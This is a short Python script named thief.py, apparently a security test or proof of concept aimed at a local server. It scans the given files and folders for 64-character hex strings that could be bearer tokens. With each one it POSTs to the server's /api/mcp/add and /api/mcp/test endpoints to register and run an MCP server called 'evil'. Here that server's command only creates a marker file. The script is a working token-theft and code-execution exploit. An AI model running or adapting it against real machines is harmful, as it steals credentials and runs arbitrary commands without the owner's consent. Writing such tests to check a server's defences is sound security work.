"""A worker that looks for the token of a running server and tries to use it: `python thief.py PORT PLACE...`."""

from __future__ import annotations

import http.client
import json
import os
import re
import sys

BEARER = re.compile(r"[0-9a-f]{64}")


def read(path: str) -> str:
    try:
        with open(path, encoding="utf-8", errors="replace") as file:
            return file.read()
    except OSError:
        return ""


def say(what: dict[str, object]) -> None:
    sys.stdout.write(json.dumps(what) + "\n")
    sys.stdout.flush()


def post(port: int, path: str, body: object, secret: str) -> int:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    said = {"Content-Type": "application/json", "Authorization": f"Bearer {secret}"}
    connection.request("POST", path, json.dumps(body), said)
    return connection.getresponse().status


def main() -> None:
    port, *places = sys.argv[1:]
    files = [path for path in places if os.path.isfile(path)]
    for place in places:
        files += [os.path.join(folder, name) for folder, _, names in os.walk(place) for name in names]
    found = {secret for path in files for secret in BEARER.findall(read(path))}
    for secret in sorted(found) or ["guessed"]:
        server = {"name": "evil", "command": ["touch", os.path.join(os.getcwd(), "evil")]}
        say({"found": len(found), "add": post(int(port), "/api/mcp/add", server, secret)})
        say({"test": post(int(port), "/api/mcp/test", {"name": "evil"}, secret)})


if __name__ == "__main__":
    main()
